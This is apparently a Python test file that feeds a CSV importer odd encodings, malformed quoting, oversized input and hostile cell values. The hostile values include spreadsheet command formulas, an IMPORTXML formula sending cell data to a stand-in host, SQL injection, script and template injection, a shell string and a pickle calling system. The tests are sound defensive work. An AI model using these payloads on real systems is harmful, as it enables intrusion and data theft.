"""Files of lines: encodings, quotation marks, newlines, and cells that are made to do harm."""

from .case import add_case, read, refused

HEADER = b"Name,E-mail\n"
ANN = b"Ann,ann@x.example\n"
GOOD = HEADER + ANN


def utf8(*lines):
    return "\n".join(["Name,E-mail", *lines, ""]).encode()


def names(*rows, name="Name,City"):
    return "\n".join([name, *rows, ""])


# encodings

ENCODED = names("Zoë Müller,Köln", "René,Orléans")
for encoding in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
    add_case(
        "csv",
        f"written_in_{encoding.replace('-', '_')}",
        read(2, None, "Zoë Müller", "Orléans"),
        ENCODED.encode(encoding),
    )
for encoding, person in (
    ("cp1251", "Иван Петров Сергеевич"),
    ("shift_jis", "山田太郎さん東京都"),
    ("gb18030", "王小明在北京市"),
    ("euc_kr", "김철수 서울특별시"),
):
    lines = names(*[f"{person} {n},x" for n in range(30)])
    add_case("csv", f"written_in_{encoding}", read(30, None, person), lines.encode(encoding))
add_case(
    "csv",
    "written_in_big5",
    read(9, None, "陳大文"),
    names(*["陳大文,台北市中正區重慶南路請於下午打電話給我們的客服人員"] * 9, name="Name,City").encode("big5"),
)
add_case("csv", "utf_16_without_its_mark", read(2, None, "Zoë Müller"), ENCODED.encode("utf-16-le"))
add_case("csv", "utf_32", refused("unknown"), ENCODED.encode("utf-32"))
add_case("csv", "utf_16_with_half_a_sign_at_the_end", read(2), ENCODED.encode("utf-16")[:-1])
add_case(
    "csv",
    "utf_16_with_half_of_a_pair_of_surrogates",
    read(1),
    b"\xff\xfe" + names("Bob X,Ulm").encode("utf-16-le").replace(b"X\0", b"\x00\xd8"),
)
add_case("csv", "two_marks_at_its_beginning", read(1), b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD)
add_case("csv", "a_mark_in_the_middle", read(2), GOOD + "\ufeffBob,bob@x.example\n".encode())
add_case("csv", "one_wrong_byte_in_utf_8", read(2), GOOD + "Zoë,".encode() + b"z\xff@x.example\n")
add_case("csv", "letters_in_more_bytes_than_they_need", read(2), GOOD + b"\xc1\x81\xc0\x80Bob,bob@x.example\n")
add_case("csv", "surrogates_as_utf_8", read(2), GOOD + b"Bob \xed\xa0\x80,bob@x.example\n")
add_case("csv", "utf_7", read(2), GOOD + b"Zo+AOs-,zoe@x.example\n")
add_case("csv", "every_byte_there_is", refused("unknown"), bytes(range(256)) * 20)
add_case(
    "csv",
    "letters_and_a_lot_of_signs_that_are_none",
    refused("unknown"),
    b"Name\x01\x02\x03\x04,E-mail\x05\x06\nAnn\x07\x0e\x0f,x\n",
)

# lines and quotation marks

add_case(
    "csv",
    "three_kinds_of_newlines",
    read(4),
    b"Name,E-mail\r\nAnn,a@x.example\nBob,b@x.example\rCem,c@x.example\r\nDan,d@x.example",
)
add_case(
    "csv", "newlines_of_other_worlds", read(1), "Name,E-mail\nAnn\u2028Bob\u0085Cem\x0b\x0cDan,a@x.example\n".encode()
)
add_case(
    "csv", "a_quotation_mark_that_is_never_closed", refused("quote"), GOOD + b'"Bob,b@x.example\nCem,c@x.example\n'
)
add_case(
    "csv",
    "a_quotation_mark_that_is_not_closed_for_megabytes",
    refused("quote_far"),
    HEADER + b'"Ann,' + b"x,y\n" * 1_500_000,
)
add_case("csv", "quotation_marks_in_the_middle_of_words", read(2), utf8('An"n,a@x.example', 'B""ob,b@x.example'))
add_case("csv", "words_behind_a_closed_quotation_mark", read(1), utf8('"Ann" Lee,a@x.example'))
add_case("csv", "a_newline_in_a_cell", read(1), utf8('"Ann\nLee",a@x.example'))
add_case("csv", "nothing_but_quotation_marks", refused("columns", later=True), b'""""""""\n')
add_case(
    "csv",
    "nothing_but_separators",
    refused("empty", later=True),
    b",,,;;;|||\n".replace(b";", b",").replace(b"|", b",") * 50,
)
add_case("csv", "nothing_but_newlines", refused("empty", later=True), b"\n" * 100_000)
add_case("csv", "nothing_but_blanks", refused("empty", later=True), b" " * 100_000)
add_case("csv", "nothing_at_all", refused("empty"), b"")
add_case("csv", "only_a_header", refused("only_header", later=True), HEADER)
add_case("csv", "a_line_that_names_the_separator", read(1), b"sep=;\nName;E-mail\nAnn;ann@x.example\n")
add_case("csv", "separators_that_change", read(2), b"Name,E-mail\nAnn;ann@x.example\nBob\tbob@x.example\n")
add_case("csv", "a_million_empty_rows", read(1), GOOD + b",\n" * 1_000_000)
add_case("csv", "rows_behind_twenty_thousand_empty_ones", read(2), GOOD + b"\n" * 20_000 + b"Bob,bob@x.example\n")
add_case("csv", "fifty_thousand_columns", refused("too_wide"), b",".join([b"x"] * 50_000) + b"\n")
add_case(
    "csv",
    "one_row_of_fifty_thousand_columns_at_the_end",
    refused("too_wide"),
    GOOD + b",".join([b"x"] * 50_000) + b"\n",
)
add_case("csv", "fifty_thousand_empty_columns", read(1), b"Name,E-mail" + b"," * 50_000 + b"\n" + ANN)
add_case("csv", "a_cell_of_fifty_megabytes", refused("long_cell"), HEADER + b"Ann," + b"x" * (49 * 2**20) + b"\n")
add_case("csv", "one_line_of_five_megabytes", refused("long_cell"), b"x" * (5 * 2**20))
add_case(
    "csv", "a_row_of_three_hundred_long_cells", refused("long_row"), GOOD + b",".join([b"x" * 5_000] * 300) + b"\n"
)
add_case("csv", "more_megabytes_than_may_be_uploaded", refused("too_large"), b"x,y\n" * (14 * 2**20))
add_case("csv", "more_rows_than_may_be_imported", refused("too_long"), HEADER + b"A,\n" * 2_001)

# headers

add_case("csv", "one_name_for_all_columns", refused("columns", later=True), b"X,X,X\n1,2,3\n")
add_case("csv", "columns_without_names", read(1), b",,E-mail\nAnn,x,ann@x.example\n")
add_case("csv", "two_columns_of_e_mails", read(1), b"Name,E-mail,E-mail\nAnn,a@x.example,b@x.example\n")
add_case(
    "csv",
    "a_header_of_a_hundred_thousand_characters",
    read(2),
    b"Name," + b"E-mail" * 20_000 + b"\nAnn,ann@x.example\n",
)
add_case("csv", "a_header_with_a_command", read(1), b"=cmd|' /C calc'!A0,E-mail\nAnn,ann@x.example\n")
add_case("csv", "a_header_with_a_template", read(1), b"{{7*7}}<t t-out='1'/>%s,E-mail\nAnn,ann@x.example\n")
add_case("csv", "a_header_of_invisible_signs", read(1), "\u200b\u202e,E-mail\nAnn,ann@x.example\n".encode())
add_case("csv", "no_header", read(2), b"Ann,ann@x.example\nBob,bob@x.example\n")
add_case(
    "csv",
    "three_hundred_columns",
    read(1),
    b",".join(b"Column %d" % n for n in range(298)) + b",Name,E-mail\n" + b"x," * 298 + ANN,
)

# cells: what they say is kept as text, or costs its row, and never more

CELLS = {
    "a_template": ("{{ object.env.CR.execute('x') }},a@x.example", read(2, None, "{{ object.env.CR.execute('x') }}")),
    "a_tag_of_odoos_templates": ('<t t-out="object.env"/>,a@x.example', read(2)),
    "a_script": ("<script>alert(1)</script>,a@x.example", read(2, None, "<script>alert(1)</script>")),
    "a_picture_that_runs_something": ("<img src=x onerror=alert(1)>,a@x.example", read(2)),
    "a_statement_of_the_database": ("'; DROP TABLE crm_lead; --,a@x.example", read(2, None, "DROP TABLE crm_lead")),
    "a_pattern_of_the_database": ("%_\\,%@%", read(2)),
    "placeholders_of_python": ("%s %(name)s %d {0} {name.__class__},a@x.example", read(2, None, "%(name)s")),
    "a_variable_of_a_shell": ("$(reboot) `reboot` ${HOME},a@x.example", read(2, None, "$(reboot)")),
    "a_command": ("=cmd|' /C calc'!A0,a@x.example", read(2)),
    "a_command_behind_a_tab": ('"\t=1+1",a@x.example', read(2)),
    "a_command_in_wide_letters": ("＝1＋1,a@x.example", read(2)),
    "a_command_that_sends_something": ('"=IMPORTXML(""http://x.example/""&A1,""//a"")",a@x.example', read(2)),
    "an_e_mail_that_is_a_header": ('Bob,"a@x.example\r\nBcc: all@x.example"', read(2)),
    "an_e_mail_that_is_a_statement": ('Bob,"\'; DELETE FROM res_users; --"@x.example', read(2)),
    "an_e_mail_that_is_a_template": ("Bob,{{7*7}}@x.example", read(2)),
    "an_e_mail_of_ten_thousand_characters": (f"Bob,{'a' * 10_000}@x.example", read(2)),
    "a_thousand_e_mails_in_one_cell": ('Bob,"' + ";".join(f"a{n}@x.example" for n in range(100)) + '"', read(2)),
    "at_signs_only": (f"Bob,{'@' * 500}", read(2)),
    "a_name_under_a_thousand_accents": ("Bob" + "\u0301" * 3_000 + ",a@x.example", read(2)),
    "a_name_of_a_hundred_thousand_letters": ("B" * 100_000 + ",a@x.example", read(2, {3: "too_long"})),
    "a_name_that_is_turned_round": ("\u202eBob\u202c,a@x.example", read(2, None, "Bob")),
    "a_name_of_no_width": ("\u200b\u200c\u200d\ufeff,", read(2, {3: "no_identity"})),
    "a_family_of_emoji": ("👩‍👩‍👧‍👦 Bob,a@x.example", read(2)),
    "letters_of_the_left_and_of_the_right": ("محمد Bob שרה,a@x.example", read(2)),
    "zero_bytes": ("B\0ob,a\0@x.example", read(2, None, "Bob")),
    "colours_of_a_terminal": ("\x1b[31mBob\x1b]0;x\x07,a@x.example", read(2)),
    "a_bell_and_a_backspace": ("Bob\x07\x08,a@x.example", read(2)),
    "signs_beyond_unicode": ("Bob \U0010ffff\U000e0041\ufffe,a@x.example", read(2)),
    "nothing_that_says_who": ("n/a,-", read(2, {3: "no_identity"})),
}
for name, (line, outcome) in CELLS.items():
    add_case("csv", name, outcome, utf8("Ann,ann@x.example" + " " * 200, line))

WIDE = "Name,Phone,Country,Date,Revenue,Website,Source,Tags,Status,Priority,Notes,Zip"


def wide(**cells):
    """Return a file with a row of Ann and one of Bob, who has odd cells."""
    columns = WIDE.split(",")
    row = [{"Name": "Bob", **cells}.get(column, "") for column in columns]
    quoted = ('"' + cell.replace('"', '""') + '"' for cell in row)
    return "\n".join([WIDE, "Ann" + "," * (len(columns) - 1), ",".join(quoted), ""]).encode()


ODD = {
    "a_phone_number_of_a_hundred_thousand_digits": ({"Phone": "1" * 100_000}, read(2, {3: "too_long"})),
    "a_phone_number_of_other_digits": ({"Phone": "٠١٢٣٤٥٦٧٨٩"}, read(2)),
    "a_phone_number_that_is_a_command": ({"Phone": "+1+cmd|' /C calc'!A0"}, read(2)),
    "a_country_that_is_a_pattern": ({"Country": "%"}, read(2, None, "%")),
    "a_date_in_superscript": ({"Date": "1/2/²²²"}, read(2, None, "1/2/²²²")),
    "a_date_before_all_dates": ({"Date": "0000-00-00"}, read(2, None, "0000-00-00")),
    "a_date_of_ten_thousand_digits": ({"Date": "9" * 1_500}, read(2)),
    "a_revenue_that_is_infinite": ({"Revenue": "9" * 400}, read(2)),
    "a_revenue_that_is_none": ({"Revenue": "nan"}, read(2)),
    "a_revenue_in_powers": ({"Revenue": "1e999"}, read(2)),
    "a_web_site_that_is_none": ({"Website": "http://[::1"}, read(2, None, "http://[::1")),
    "a_web_site_that_runs_a_script": ({"Website": "javascript:alert(document.cookie)"}, read(2)),
    "a_source_of_six_thousand_characters": ({"Source": "s" * 6_000}, read(2, {3: "too_long"})),
    "five_thousand_tags": ({"Tags": ",".join(f"t{n}" for n in range(1_500))}, read(2)),
    "a_tag_that_is_too_long": ({"Tags": "t" * 300}, read(2, {3: "too_long"})),
    "a_status_that_is_a_template": ({"Status": "{{7*7}}"}, read(2, None, "{{7*7}}")),
    "a_priority_beyond_all": ({"Priority": "9" * 1_000}, read(2)),
    "notes_of_a_hundred_and_forty_thousand_characters": ({"Notes": "n" * 140_000}, read(2)),
    "notes_with_a_script": ({"Notes": "<script>alert(1)</script>\n<b>x"}, read(2, None, "<script>alert(1)</script>")),
}  # fmt: skip
for name, (cells, outcome) in ODD.items():
    add_case("csv", name, outcome, wide(**cells))

# other files under a wrong name

OTHERS = {
    "a_portable_document": (b"%PDF-1.7\n" + bytes(range(256)) * 4, "unknown"),
    "a_picture": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "unknown"),
    "a_program_of_windows": (b"MZ\x90\x00" + bytes(range(256)) * 4, "unknown"),
    "a_program_of_linux": (b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4, "unknown"),
    "a_packed_file": (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4, "unknown"),
    "an_archive_of_another_kind": (b"Rar!\x1a\x07" + bytes(range(256)) * 4, "unknown"),
    "objects_of_python": (b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.", "unknown"),
    "a_web_page": (b"<!DOCTYPE html><html><body>Ann</body></html>", "web_page"),
    "a_web_page_behind_blanks": (b"\n\n   <HTML><TABLE></TABLE></HTML>", "web_page"),
    "a_database": (b"SQLite format 3\x00" + b"\x10\x00\x01\x01\x00\x40\x20\x20" + b"\0" * 400, "unknown"),
}  # fmt: skip
for name, (data, code) in OTHERS.items():
    add_case("csv", name, refused(code), data)
